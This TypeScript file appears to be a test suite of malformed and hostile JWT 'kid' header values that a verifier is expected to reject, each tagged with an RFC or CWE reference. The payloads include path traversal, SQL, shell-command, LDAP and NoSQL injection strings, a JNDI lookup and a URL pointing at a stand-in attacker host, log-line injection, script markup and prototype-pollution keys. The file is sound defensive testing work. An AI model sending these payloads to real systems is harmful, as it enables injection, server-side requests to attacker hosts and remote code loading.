/** Key ids that are none, or that mean something to whatever looks them up (RFC 8725 §3.10). */
import { type Draft, defineCases } from './case.js'
import { refusals } from './refusals.js'

const category = 'kid'

const notIds = defineCases(
  {
    category,
    needs: 'the signing key',
    expected: refusals.tokenMalformed,
    source: 'RFC 7515 §4.1.4',
    neighbour: ({ sign, keyId }) => sign({}, { kid: keyId }),
  },
  [
    { id: 'kid-missing', says: 'No key id.', hostile: ({ sign }) => sign({}, { kid: undefined }) },
    { id: 'kid-null', says: 'The key id null.', hostile: ({ sign }) => sign({}, { kid: null }) },
    { id: 'kid-empty', says: 'An empty key id.', hostile: ({ sign }) => sign({}, { kid: '' }) },
    {
      id: 'kid-number',
      says: 'A number for the key id.',
      hostile: ({ sign }) => sign({}, { kid: 0 }),
    },
    {
      id: 'kid-array',
      says: 'The right key id in an array, which joins to the same string.',
      hostile: ({ sign, keyId }) => sign({}, { kid: [keyId] }),
    },
    {
      id: 'kid-object',
      says: 'A query for any key in place of a key id.',
      source: 'CWE-943',
      hostile: ({ sign }) => sign({}, { kid: { $ne: null } }),
    },
    {
      id: 'kid-long',
      says: 'A key id of 129 characters.',
      source: 'CWE-770',
      hostile: ({ sign }) => sign({}, { kid: 'k'.repeat(129) }),
    },
    {
      id: 'kid-very-long',
      says: 'A key id of 4 000 characters.',
      source: 'CWE-770',
      hostile: ({ sign }) => sign({}, { kid: 'k'.repeat(4_000) }),
    },
  ],
)

const madeUp = [
  ['unknown', 'A key id that nobody gave out', 'made-up', 'RFC 8725 §3.10'],
  ['longest', 'An unknown key id of 128 characters', 'k'.repeat(128), 'RFC 8725 §3.10'],
  ['path', 'A key id that is a path to an empty file', '../../../../dev/null', 'CWE-22'],
  ['path-absolute', 'A key id that is a path', '/etc/hostname', 'CWE-22'],
  ['path-encoded', 'A key id that is a path in disguise', '..%2f..%2fdev%2fnull', 'CWE-22'],
  ['sql', 'A key id that closes a query', "' UNION SELECT 'attacker' -- ", 'CWE-89'],
  ['command', 'A key id that goes on as a command', 'key; sleep 5 #', 'CWE-78'],
  ['ldap', 'A key id that matches everything', '*)(uid=*', 'CWE-90'],
  [
    'template',
    'A key id that is to be expanded',
    ['$', '{jndi:ldap://attacker.test}'].join(''),
    'CWE-917',
  ],
  ['address', 'A key id that is an address', 'https://attacker.test/key.pem', 'CWE-918'],
  ['log', 'A key id that begins a new line in a log', 'key\r\nlevel=info granted', 'CWE-117'],
  ['markup', 'A key id that is markup', '<script>alert(1)</script>', 'CWE-79'],
  ['proto', 'A key id that every object of JavaScript has', '__proto__', 'CWE-1321'],
  ['constructor', 'A key id that every object inherits', 'constructor', 'CWE-1321'],
  ['to-string', 'A key id that is an inherited function', 'toString', 'CWE-1321'],
  ['index', 'A key id that is the index of the first key', '0', 'RFC 8725 §3.10'],
  ['wildcard', 'A key id that could stand for any', '*', 'RFC 8725 §3.10'],
] as const

const unknown = defineCases(
  { category, needs: 'nothing', expected: refusals.keyUnknown, source: 'RFC 8725 §3.10' },
  madeUp.map(
    ([id, says, kid, source]): Draft<'nothing'> => ({
      id: `kid-${id}`,
      says: `${says}.`,
      source,
      hostile: ({ attacker, claims }) => attacker.sign(claims, { kid }),
    }),
  ),
)

const nearly = defineCases(
  {
    category,
    needs: 'the signing key',
    expected: refusals.keyUnknown,
    source: 'RFC 7515 §4.1.4',
    neighbour: ({ sign, keyId }) => sign({}, { kid: keyId }),
  },
  [
    {
      id: 'kid-upper-case',
      says: 'The right key id in upper case.',
      hostile: ({ sign, keyId }) => sign({}, { kid: keyId.toUpperCase() }),
    },
    {
      id: 'kid-space',
      says: 'The right key id with a space behind it.',
      hostile: ({ sign, keyId }) => sign({}, { kid: `${keyId} ` }),
    },
    {
      id: 'kid-zero-byte',
      says: 'The right key id with a zero byte behind it.',
      hostile: ({ sign, keyId }) => sign({}, { kid: `${keyId}\0` }),
    },
    {
      id: 'kid-prefix',
      says: 'The beginning of the right key id.',
      hostile: ({ sign, keyId }) => sign({}, { kid: keyId.slice(0, -1) }),
    },
    {
      id: 'kid-combining',
      says: 'The right key id with an accent that is not to be seen.',
      hostile: ({ sign, keyId }) => sign({}, { kid: `${keyId}\u034f` }),
    },
  ],
)

export const kidCases = [...notIds, ...unknown, ...nearly]
